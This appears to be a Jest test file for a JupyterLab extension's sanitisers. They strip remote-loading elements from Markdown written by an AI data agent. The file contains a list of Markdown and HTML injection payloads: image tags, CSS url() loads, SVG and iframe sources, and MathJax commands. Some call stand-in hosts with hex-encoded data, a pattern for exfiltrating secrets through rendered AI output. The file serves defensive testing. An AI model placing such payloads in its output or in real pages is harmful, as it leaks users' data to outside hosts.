/**
 * What the sidebar renders loads nothing: the no-request filter and the
 * pending-suggestion guard.
 */
import { stepMarkdown } from '../analysis';
import { isPendingSuggestion } from '../executor';
import { inertMarkdown, withoutRequests } from '../norequests';
import { layoutCells } from '../suggestioncells';

// JupyterLab's own Markdown parser, as @jupyterlab/markedparser-extension configures
// it (GitHub-flavoured).
import { marked } from 'marked';

function rendered(markdown: string): string {
  return marked.parse(markdown, { gfm: true, async: false }) as string;
}

/** The elements of rendered HTML that load (or link to) anything, as tag names. */
function loading(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  return Array.from(
    template.content.querySelectorAll(
      'img, video, audio, source, iframe, object, embed, image, svg, link, style, script, a, ' +
        '[src], [srcset], [href], [poster], [style], [background]'
    )
  ).map(e => e.outerHTML);
}

const PNG = 'data:image/png;base64,iVBORw0KGgo=';

describe('withoutRequests', () => {
  it('drops remote and relative image sources, keeps raster data URLs', () => {
    const out = withoutRequests(
      `<img src="http://evil.example/?d=6b6579" alt="x"><img src="files/a.png"><img src="${PNG}">`
    );
    expect(out).not.toContain('evil.example');
    expect(out).not.toContain('files/a.png');
    expect(out).toContain(PNG);
    expect(out).toContain('image not loaded');
  });

  it('removes every element and attribute that fetches', () => {
    const out = withoutRequests(
      '<link rel="stylesheet" href="http://e.example/a.css">' +
        '<style>@import url(http://e.example/b.css)</style>' +
        '<div style="background: url(http://e.example/c.png)">bg</div>' +
        '<img srcset="http://e.example/d.png 2x">' +
        '<video poster="http://e.example/e.png"></video>' +
        '<svg><image href="http://e.example/f.png"></image><use xlink:href="http://e.example/g.svg#x"></use></svg>' +
        '<iframe src="http://e.example/h"></iframe><object data="http://e.example/i"></object>' +
        '<a href="http://e.example/j" ping="http://e.example/k">link</a>' +
        '<table background="http://e.example/l.png"><tr><td>1</td></tr></table>'
    );
    for (const letter of 'abcdefghikl') {
      expect(out).not.toContain(`e.example/${letter}`);
    }
    // a link stays a link: it is fetched only when followed
    expect(out).toContain('href="http://e.example/j"');
    expect(out).toContain('bg');
    expect(out).toContain('<td>1</td>');
  });
});

describe('isPendingSuggestion', () => {
  const cell = (type: string, tag: unknown) => ({
    type,
    getMetadata: (key: string) =>
      key === 'jupyter_data_agent' ? tag : undefined
  });

  it('is true only for code cells tagged pending', () => {
    expect(isPendingSuggestion(cell('code', { status: 'pending' }))).toBe(true);
    expect(isPendingSuggestion(cell('code', { status: 'accepted' }))).toBe(
      false
    );
    expect(isPendingSuggestion(cell('code', undefined))).toBe(false);
    expect(isPendingSuggestion(cell('markdown', { status: 'pending' }))).toBe(
      false
    );
  });
});

describe('inertMarkdown', () => {
  const port = 'http://127.0.0.1:8765';
  const attacks = [
    `![e](${port}/b?d=736563726574)`,
    `![e](${port}/b?d=73 "title")`,
    `![e][r]\n\n[r]: ${port}/ref`,
    `![e](<${port}/angle>)`,
    `!\n[e](${port}/split)`,
    `<img src="${port}/raw">`,
    `<IMG SRC=${port}/upper>`,
    `<img\nsrc="${port}/newline">`,
    `<video poster="${port}/poster"></video>`,
    `<picture><source srcset="${port}/srcset"></picture>`,
    `<div style="background:url(${port}/css)">x</div>`,
    `<svg><image href="${port}/svg"/></svg>`,
    `<iframe src="${port}/frame"></iframe>`,
    `<${port}/autolink>`,
    `[click](${port}/link)`,
    `see ${port}/bare and www.example.com/x`,
    `\`code\` <img src="${port}/after-code">`,
    `\\<img src="${port}/escaped-backslash">`,
    `- item\n\n  <img src="${port}/in-list">`,
    `> quote <img src="${port}/in-quote">`,
    '```\n<img src="' + port + '/in-fence">\n```',
    '- ```\n  x\n  ```\n<img src="' + port + '/after-list-fence">'
  ];

  it('has attacks that load something when left as they are', () => {
    const live = attacks.filter(a => loading(rendered(a)).length > 0);
    expect(live.length).toBeGreaterThan(attacks.length - 4); // all but the ones in code
  });

  it.each(attacks)('renders %s with nothing that loads or links', attack => {
    const html = rendered(inertMarkdown(attack));
    expect(loading(html)).toEqual([]);
  });

  it('keeps what the text says: alt text, link text and the addresses, as text', () => {
    const html = rendered(
      inertMarkdown(
        `![chart](${port}/x.png) and [the docs](https://pandas.pydata.org)`
      )
    );
    expect(html).toContain('chart');
    expect(html).toContain('the docs');
    expect(html).toContain('pandas.pydata.org');
    expect(loading(html)).toEqual([]);
  });

  it('leaves ordinary prose alone', () => {
    const prose =
      "**Step 2.** Keep the rows where `delay > 15`, then group by `carrier` (the mean of `df['delay']`).";
    expect(inertMarkdown(prose)).toBe(prose);
    expect(inertMarkdown('a < b and x <= 3')).toBe('a < b and x <= 3');
  });

  it('takes the MathJax commands that style or load out of math', () => {
    const math = inertMarkdown(
      '$\\style{background:\\75 rl(http:x)}{a}$ $$\\href{http://e}{b}$$ $\\\\\\class{c}{d}$ $\\require{x}$'
    );
    expect(math).not.toMatch(/\\(style|href|class|require)(?![A-Za-z])/);
  });

  it('turns a mermaid fence into code', () => {
    expect(inertMarkdown('```mermaid\ngraph TD; A-->B\n```')).toContain(
      '```text'
    );
  });

  it("is applied to every Markdown cell made from the model's words", () => {
    const step = {
      number: 1,
      title: `Load <img src="${port}/title">`,
      explanation: `![e](${port}/explanation)`,
      code: 'df.head()',
      cell_id: null,
      status: 'error' as const,
      result: {
        status: 'error',
        ename: `<img src="${port}/ename">`,
        outputs: []
      } as any,
      repairs: 0,
      replanned: false
    };
    expect(loading(rendered(stepMarkdown(step as any)))).toEqual([]);
    const cells = layoutCells(
      { turnId: 't', intent: 'q' },
      {
        code: 'x = 1',
        steps: [
          { number: 1, explanation: `![e](${port}/perstep)`, code: 'x = 1' }
        ]
      } as any,
      'perStep',
      'pending',
      () => 'id'
    );
    const markdown = cells.filter(c => c.cell_type === 'markdown');
    expect(markdown).toHaveLength(1);
    expect(loading(rendered(markdown[0].source))).toEqual([]);
  });
});
